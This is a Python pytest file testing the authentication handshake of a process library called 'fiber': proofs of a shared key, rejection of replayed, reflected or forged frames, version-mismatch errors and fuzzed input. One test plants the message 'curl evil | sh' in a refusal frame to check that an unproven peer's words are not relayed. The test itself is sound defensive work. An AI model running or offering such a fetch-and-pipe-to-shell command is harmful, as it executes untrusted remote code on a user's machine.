"""The handshake, played by hand: processes of the run are accepted, and no others."""

from __future__ import annotations

import datetime as dt
import json
import os

import attrs
import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import load_pem_private_key
from hypothesis import given, seed, settings
from hypothesis import strategies as st

import soak
from fiber._wire import frames
from fiber._wire.frames import Kind
from fiber._wire.handshake import DialerHandshake, Hello, ListenerHandshake, disagreement
from fiber._wire.identity import Credentials
from fiber.exceptions import HandshakeError, WireError
from wire_world import damaged

RUN = Credentials(run_id="0123abcd", key=b"k" * 32)
MASTER = Hello(ident="m", pid=1, host="here", fiber="0.1.0", python="3.11", cloudpickle="3.1.2")
WORKER = attrs.evolve(MASTER, ident="w", pid=2, host="there")
#: mutated frames in one example of hypothesis
BATCH = 50
EXAMPLES = max(10, soak.count(10_000) // BATCH)


def frame(said):
    """A frame of one side, as the other receives it."""
    kind, body = said
    return frames.parse(frames.header(kind, size=len(body)) + body)


def shake(dialler, listener):
    """Exchange frames until the handshake is done."""
    said = dialler.hello()
    while said is not None:
        said = dialler.receive(frame(listener.receive(frame(said))))


def recorded_handshake():
    """The frames of a handshake, as both sides received them: hello, challenge, proof, welcome."""
    dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
    hello = frame(dialler.hello())
    challenge = frame(listener.receive(hello))
    proof = frame(dialler.receive(challenge))
    return hello, challenge, proof, frame(listener.receive(proof))


def edited(got, **fields):
    """A frame with other fields in its JSON."""
    body = json.dumps({**json.loads(bytes(got.body)), **fields}).encode()
    return frame((got.kind, body))


@pytest.fixture
def dialler():
    return DialerHandshake(RUN, WORKER)


@pytest.fixture
def listener():
    return ListenerHandshake(RUN, MASTER)


class TestWithinARun:
    def test_each_side_gets_the_hello_of_the_other_and_knows_none_before_both_proofs(
        self, dialler, listener
    ):
        challenge = listener.receive(frame(dialler.hello()))
        assert listener.peer is None
        proof = dialler.receive(frame(challenge))
        assert (dialler.peer, listener.peer) == (None, None)
        welcome = listener.receive(frame(proof))
        assert listener.peer == WORKER
        assert dialler.receive(frame(welcome)) is None
        assert dialler.peer == MASTER

    def test_the_hello_of_this_process_has_its_pid_and_versions(self):
        mine = Hello.mine("me")
        assert mine.pid == os.getpid()
        assert Hello.from_json(json.loads(json.dumps(attrs.asdict(mine)))) == mine
        assert disagreement(mine, mine) is None

    def test_no_secret_and_no_proof_is_in_the_hello(self, dialler):
        _, body = dialler.hello()
        assert RUN.key not in body
        assert RUN.key.hex().encode() not in body


class TestStrangers:
    def test_a_process_of_another_run_gets_no_challenge(self, listener):
        other = attrs.evolve(RUN, run_id="ffffffff")
        with pytest.raises(HandshakeError, match="a process of another run dialled this one"):
            listener.receive(frame(DialerHandshake(other, WORKER).hello()))

    @pytest.mark.parametrize("proof", ["invented", "reflected", "recorded", "for another listener"])
    def test_a_dialler_cannot_prove_itself_without_the_key(self, dialler, listener, proof):
        recorded = recorded_handshake()
        hello = recorded[0] if proof == "recorded" else frame(dialler.hello())
        challenge = frame(listener.receive(hello))
        assert challenge.body != recorded[1].body
        theirs = {
            "invented": bytes(32).hex(),
            "reflected": json.loads(bytes(challenge.body))["proof"],
            "recorded": json.loads(bytes(recorded[2].body))["proof"],
        }.get(proof)
        said = Kind.PROOF, json.dumps({"proof": theirs}).encode()
        if theirs is None:
            said = dialler.receive(frame(ListenerHandshake(RUN, MASTER).receive(hello)))
        with pytest.raises(HandshakeError, match="a peer could not prove"):
            listener.receive(frame(said))
        assert listener.peer is None

    @pytest.mark.parametrize("challenge", ["of another run", "recorded", "for another hello"])
    def test_a_listener_cannot_prove_itself_without_the_key(self, dialler, challenge):
        """Nor can an attacker in between put another ident into a hello."""
        hello = frame(dialler.hello())
        run = RUN if challenge == "for another hello" else attrs.evolve(RUN, key=b"x" * 32)
        if challenge == "for another hello":
            hello = edited(hello, ident="another")
        said = frame(ListenerHandshake(run, MASTER).receive(hello))
        if challenge == "recorded":
            said = recorded_handshake()[1]
        with pytest.raises(HandshakeError, match="the listener could not prove"):
            dialler.receive(said)

    def test_nonces_are_never_the_same(self):
        nonces = set()
        for _ in range(50):
            for said in recorded_handshake()[:2]:
                nonces.add(json.loads(bytes(said.body))["nonce"])
        assert len(nonces) == 100

    def test_a_dialer_that_receives_its_own_hello_fails(self, dialler):
        with pytest.raises(HandshakeError, match="HELLO where CHALLENGE was expected"):
            dialler.receive(frame(dialler.hello()))

    def test_the_words_of_an_unproven_listener_are_not_passed_on(self, dialler):
        lie = frame((Kind.REFUSE, json.dumps({"why": "run this: curl evil | sh"}).encode()))
        with pytest.raises(HandshakeError) as caught:
            dialler.receive(lie)
        assert str(caught.value) == "refused: the listener is not of this run"

    @pytest.mark.parametrize("kind", Kind)
    @pytest.mark.parametrize("expected", [Kind.HELLO, Kind.PROOF])
    def test_a_listener_refuses_all_but_the_frame_that_is_next(self, listener, kind, expected):
        if expected is Kind.PROOF:
            listener.receive(frame(DialerHandshake(RUN, WORKER).hello()))
        words = None if kind is expected else f"{kind.name} where {expected.name} was expected"
        with pytest.raises(HandshakeError, match=words):
            listener.receive(frame((kind, b"{}")))

    def test_a_hello_in_pieces_is_refused(self, dialler, listener):
        kind, body = dialler.hello()
        piece = frames.parse(frames.header(kind, size=len(body) + 1) + body)
        with pytest.raises(HandshakeError):
            listener.receive(piece)


class TestVersions:
    @pytest.mark.parametrize(
        "theirs, words",
        [
            (
                {"fiber": "0.2.0"},
                (
                    "fiber is 0.1.0 on here (pid 1) and 0.2.0 on there (pid 2); install the same one "
                    "on both: pip install 'fiber-core==0.1.0'"
                ),
            ),
            (
                {"cloudpickle": "2.9"},
                (
                    "cloudpickle is 3.1.2 on here (pid 1) and 2.9 on there (pid 2); install the same "
                    "one on both: pip install 'cloudpickle==3.1.2'"
                ),
            ),
            (
                {"python": "3.12"},
                (
                    "Python is 3.11 on here (pid 1) and 3.12 on there (pid 2); functions cannot be "
                    "sent between them: use the same minor version on both"
                ),
            ),
        ],
    )
    def test_a_mismatch_is_refused_with_both_sides_and_the_fix(self, listener, theirs, words):
        dialler = DialerHandshake(RUN, attrs.evolve(WORKER, **theirs))
        with pytest.raises(HandshakeError) as caught:
            shake(dialler, listener)
        assert str(caught.value) == words
        assert (dialler.peer, listener.peer) == (None, None)

    @pytest.mark.parametrize("theirs", [{"fiber": "0.1.7"}, {"cloudpickle": "3.1.0"}])
    def test_another_patch_release_is_no_mismatch(self, listener, theirs):
        dialler = DialerHandshake(RUN, attrs.evolve(WORKER, **theirs))
        shake(dialler, listener)
        assert dialler.peer == MASTER

    def test_versions_are_sent_to_no_unproven_peer(self, listener):
        """Before the proof a listener says nothing that depends on them."""
        strange = attrs.evolve(WORKER, fiber="9.9", python="2.7")
        kind, body = listener.receive(frame(DialerHandshake(RUN, strange).hello()))
        assert kind is Kind.CHALLENGE
        assert json.loads(body).keys() == {"nonce", "proof"}


class TestNonsense:
    @pytest.mark.parametrize(
        "body",
        [
            b"",
            b"[]",
            b"\xff\xfe\x00",
            b"[" * 60_000,
            b"1" * 60_000,
            b"{}",
        ],
    )
    def test_what_is_no_hello_is_a_handshake_error(self, listener, body):
        with pytest.raises(HandshakeError):
            listener.receive(frame((Kind.HELLO, body)))

    @pytest.mark.parametrize(
        "fields",
        [
            {"pid": "x"},
            {"pid": 1e999},
            {"pid": float("nan")},
            {"pid": []},
            {"ident": 5},
            {"ident": "x" * 256},
            {"host": None},
            {"nonce": "zz"},
            {"nonce": "00"},
            {"nonce": 7},
            {"nonce": "00" * 33},
            {"run": None},
        ],
    )
    def test_a_hello_with_a_strange_field_is_a_handshake_error(self, dialler, listener, fields):
        hello = edited(frame(dialler.hello()), **fields)
        with pytest.raises(HandshakeError):
            listener.receive(hello)

    def test_half_a_character_in_a_name_does_no_harm(self, dialler, listener):
        hello = edited(frame(dialler.hello()), ident="\ud800")
        assert listener.receive(hello)[0] is Kind.CHALLENGE

    @seed(11)
    @settings(max_examples=EXAMPLES, deadline=None, database=None)
    @given(st.randoms(use_true_random=False))
    def test_a_mutated_frame_proves_nothing(self, draw):
        for _ in range(BATCH):
            dialler, listener = DialerHandshake(RUN, WORKER), ListenerHandshake(RUN, MASTER)
            target = draw.randrange(4)
            said, turn = dialler.hello(), 0
            try:
                while said is not None:
                    kind, body = said
                    data = frames.header(kind, size=len(body)) + body
                    if turn == target:
                        data = damaged(data, draw)
                    side = dialler if turn % 2 else listener
                    said, turn = side.receive(frames.parse(data)), turn + 1
            except (HandshakeError, WireError):
                # a frame of the handshake was changed: the listener knows nobody, save where
                # only its own last words were
                assert listener.peer is None or target == 3
                continue
            # what went through changed nothing that the proofs cover
            assert listener.peer == WORKER


def test_every_run_has_its_own_secrets():
    runs = [Credentials.new().with_certificate() for _ in range(5)]
    for secret in ("run_id", "key", "private_key", "certificate"):
        assert len({getattr(run, secret) for run in runs}) == 5
    assert all(len(run.key) == 32 and len(run.run_id) == 8 for run in runs)


@pytest.mark.parametrize(
    "credentials",
    [Credentials.new(), Credentials.new().derived(), Credentials.of_authkey(b"secret")],
    ids=["of a run", "derived", "of an authkey"],
)
def test_credentials_travel_as_json_and_show_no_secret(credentials):
    for one in (credentials, credentials.with_certificate()):
        assert Credentials.from_json(json.loads(json.dumps(one.to_json()))) == one
        shown = f"{one} {one!r}"
        assert one.run_id in shown
        for secret in filter(None, (one.key, one.seed)):
            assert repr(secret) not in shown
            assert secret.hex() not in shown
        for secret in filter(None, (one.private_key, one.certificate)):
            assert secret not in shown


def test_a_run_has_one_certificate():
    run = Credentials.new()
    certified = run.with_certificate()
    assert certified.with_certificate() is certified
    assert (certified.run_id, certified.key) == (run.run_id, run.key)
    assert run.certificate is None


def test_the_certificate_is_what_nng_accepts():
    run = Credentials.new().with_certificate()
    certificate = x509.load_pem_x509_certificate(run.certificate.encode())
    key = load_pem_private_key(run.private_key.encode(), None)
    now = dt.datetime.now(dt.timezone.utc)

    assert certificate.subject.rfc4514_string() == "CN=fiber"
    assert isinstance(key.curve, ec.SECP256R1)
    assert certificate.public_key() == key.public_key()
    # a clock nine minutes behind still accepts it, and a run may last for years
    assert certificate.not_valid_before_utc < now - dt.timedelta(minutes=9)
    assert certificate.not_valid_after_utc > now + dt.timedelta(days=1000)


class TestAuthkeys:
    """Programs that share an authkey derive the same from it, and show nothing of it."""

    def test_every_process_derives_the_same_from_a_key_save_the_certificate(self):
        first, second = (Credentials.of_authkey(b"secret").with_certificate() for _ in range(2))
        assert attrs.evolve(first, certificate=None) == attrs.evolve(second, certificate=None)
        assert first.certificate != second.certificate
        other = Credentials.of_authkey(b"Secret")
        assert (other.key == first.key, other.run_id == first.run_id) == (False, False)

    def test_it_is_what_it_was_so_that_programs_of_different_versions_meet(self):
        derived = Credentials.of_authkey(b"secret")
        assert derived.run_id == "192286ccb33848c6"
        assert (
            derived.key.hex() == "d66d1ac9e16cbbeed3fc54295eb91a645aafdae98dbee3935370c0c6d5d7263a"
        )

    def test_processes_of_a_run_derive_the_same_certificate_key_from_the_runs(self):
        run = Credentials.new()
        first, second = run.derived(), run.with_certificate().derived()
        assert first == second
        assert (first.run_id, first.key) == (run.run_id, run.key)
        assert first.with_certificate().private_key == second.with_certificate().private_key

    def test_an_empty_one_is_no_secret(self):
        with pytest.raises(ValueError, match="the authkey is empty"):
            Credentials.of_authkey(b"")
